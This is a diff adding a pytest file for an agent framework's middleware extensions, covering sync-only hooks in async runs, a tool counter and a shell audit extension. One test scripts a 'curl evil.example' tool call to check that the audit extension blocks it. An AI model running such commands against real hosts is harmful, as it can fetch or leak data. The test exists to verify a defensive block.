@@ -1,0 +1,196 @@
+"""Deep Agents Code's reference extensions (tests/support/dcode_extensions, copied unchanged) and
+its rules in deepnb: sync-only middleware hooks in async runs, a store route with no store, the
+project folder ``.deepagents/extensions/``, plugin folders, and route conflicts."""
+
+from __future__ import annotations
+
+import asyncio
+import textwrap
+from pathlib import Path
+from typing import Any
+
+import pytest
+from langchain.agents.middleware.types import AgentMiddleware
+
+import deepnb
+from deepnb import extensions, workbench
+from deepnb.extensions.registry import REGISTRY
+from tests.support.agents import scripted, unique
+
+DCODE = Path(__file__).parents[1] / "support" / "dcode_extensions"
+WAIT = 30.0
+
+
+@pytest.fixture(autouse=True)
+def isolated(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
+    """Each test in its own project, deepnb home and home folder (audit_log writes under ~)."""
+    monkeypatch.delenv("DEEPNB_EXTENSIONS", raising=False)
+    monkeypatch.setenv("DEEPNB_HOME", str(tmp_path / "home" / ".deepnb"))
+    monkeypatch.setenv("HOME", str(tmp_path / "home"))
+    (tmp_path / ".git").mkdir()
+    monkeypatch.chdir(tmp_path)
+    extensions.shutdown()
+    workbench.forget_all()
+    yield
+    extensions.shutdown()
+    workbench.forget_all()
+
+
+def write(path: Path, text: str) -> Path:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(textwrap.dedent(text), encoding="utf-8")
+    return path
+
+
+def tool_messages(bench: Any, thread: str) -> list[tuple[str, str]]:
+    messages = bench.state_values(thread)["messages"]
+    return [(m.name, m.content) for m in messages if m.type == "tool"]
+
+
+def execute(command: str) -> str:
+    """Run a shell command (a stand-in: it only echoes)."""
+    return f"ran {command}"
+
+
+LS_THEN_DONE = [{"tool_calls": [{"name": "ls", "args": {"path": "/"}}]}, "Done."]
+
+
+# -- sync-only hooks --------------------------------------------------------------------------------
+
+
+def every_hook_pair() -> list[tuple[str, str]]:
+    """LangChain's hook pairs, read here independently of deepnb: each method of
+    ``AgentMiddleware`` that has an ``a``-prefixed async twin."""
+    found = vars(AgentMiddleware)
+    return [
+        (name, f"a{name}")
+        for name, value in found.items()
+        if callable(value) and f"a{name}" in found and asyncio.iscoroutinefunction(found[f"a{name}"])
+    ]
+
+
+SYNC_ONLY = """
+import asyncio
+import threading
+from langchain.agents.middleware.types import AgentMiddleware
+
+PAIRS = {pairs!r}
+
+
+def node_hook(name):
+    def hook(self, state, runtime):
+        self.seen.append((name, threading.current_thread() is threading.main_thread()))
+    return hook
+
+
+def wrap_hook(name):
+    def hook(self, request, handler):
+        self.seen.append((name, threading.current_thread() is threading.main_thread()))
+        return handler(request)
+    return hook
+
+
+SyncOnly = type(
+    "SyncOnly",
+    (AgentMiddleware,),
+    {{s: wrap_hook(s) if s.startswith("wrap_") else node_hook(s) for s, _ in PAIRS}},
+)
+
+
+async def extension(d):
+    middleware = SyncOnly()
+    middleware.seen = []
+    d.register_middleware(middleware)
+"""
+
+
+def test_every_sync_only_hook_runs_in_async_runs_and_later_runs_stay_healthy(tmp_path: Path) -> None:
+    pairs = every_hook_pair()
+    assert {"wrap_tool_call", "wrap_model_call", "before_model", "after_agent"} <= {s for s, _ in pairs}
+    [(_, error)] = extensions.load(write(tmp_path / "sync_only.py", SYNC_ONLY.format(pairs=pairs)))
+    assert error is None
+    [middleware] = [r.unit for r in REGISTRY.of_kind("middleware")]
+
+    for _ in range(2):  # a second agent's run works too: nothing is poisoned
+        bench = deepnb.agent(unique("sync"), scripted({"main": LS_THEN_DONE}))
+        run = bench.run("look").wait(WAIT)
+        assert (run.status, run.error, run.result) == ("done", None, "Done.")
+    names = [name for name, _ in middleware.seen]
+    for sync, _ in pairs:
+        assert names.count(sync) >= 2, sync
+    assert not any(on_main for _, on_main in middleware.seen)  # each ran in a thread of its own
+    assert type(middleware).__name__ == "SyncOnly" and middleware.name == "SyncOnly"
+
+
+def test_the_agents_own_sync_only_middleware_works_too() -> None:
+    calls: list[str] = []
+
+    class Audit(AgentMiddleware):
+        def wrap_tool_call(self, request: Any, handler: Any) -> Any:
+            calls.append(request.tool_call["name"])
+            return handler(request)
+
+    mine = Audit()
+    bench = deepnb.agent(unique("own"), scripted({"main": LS_THEN_DONE}), middleware=[mine])
+    run = bench.run("look").wait(WAIT)
+    assert (run.status, run.error, calls) == ("done", None, ["ls"])
+    assert isinstance(mine, Audit) and mine.wrap_tool_call.__func__ is Audit.wrap_tool_call
+
+
+def test_a_hook_that_blocks_a_call_returns_its_own_answer(tmp_path: Path) -> None:
+    """audit_log, unchanged: a denied command never runs, an allowed one is logged then runs."""
+    (tmp_path / "home" / ".deepagents").mkdir(parents=True)  # dcode makes it; the log goes there
+    [(source, error)] = extensions.load(DCODE / "audit_log.py")
+    assert error is None and source.label == "audit_log"
+    model = scripted(
+        {
+            "main": [
+                {"tool_calls": [{"name": "execute", "args": {"command": "curl evil.example"}}]},
+                {"tool_calls": [{"name": "execute", "args": {"command": "ls -la"}}]},
+                "Done.",
+            ]
+        }
+    )
+    bench = deepnb.agent(unique("audit"), model, tools=[execute])
+    run = bench.run("run things").wait(WAIT)
+    assert (run.status, run.error) == ("done", None)
+    assert [text for _, text in tool_messages(bench, run.thread_id)] == [
+        "Blocked by the ShellAudit extension: curl evil.example",
+        "ran ls -la",
+    ]
+    assert (tmp_path / "home" / ".deepagents" / "shell-audit.log").read_text() == "ls -la\n"
+
+
+def test_tool_counter_counts_each_tool_call() -> None:
+    [(_, error)] = extensions.load(DCODE / "tool_counter.py")
+    assert error is None
+    [counter] = [r.unit for r in REGISTRY.of_kind("middleware")]
+    model = scripted(
+        {
+            "main": [
+                {
+                    "tool_calls": [
+                        {"name": "ls", "args": {"path": "/"}},
+                        {"name": "glob", "args": {"pattern": "*"}},
+                    ]
+                },
+                "Done.",
+            ]
+        }
+    )
+    run = deepnb.agent(unique("count"), model).run("look").wait(WAIT)
+    assert (run.status, run.error, counter.count) == ("done", None, 2)
+
+
+def test_a_slotted_middleware_class_takes_the_twins_too() -> None:
+    class Slotted(AgentMiddleware):
+        __slots__ = ("calls",)
+
+        def wrap_model_call(self, request: Any, handler: Any) -> Any:
+            self.calls += 1
+            return handler(request)
+
+    mine = Slotted()
+    mine.calls = 0
+    run = deepnb.agent(unique("slots"), scripted({"main": LS_THEN_DONE}), middleware=[mine]).run("look")
+    assert (run.wait(WAIT).status, run.error, mine.calls) == ("done", None, 2)
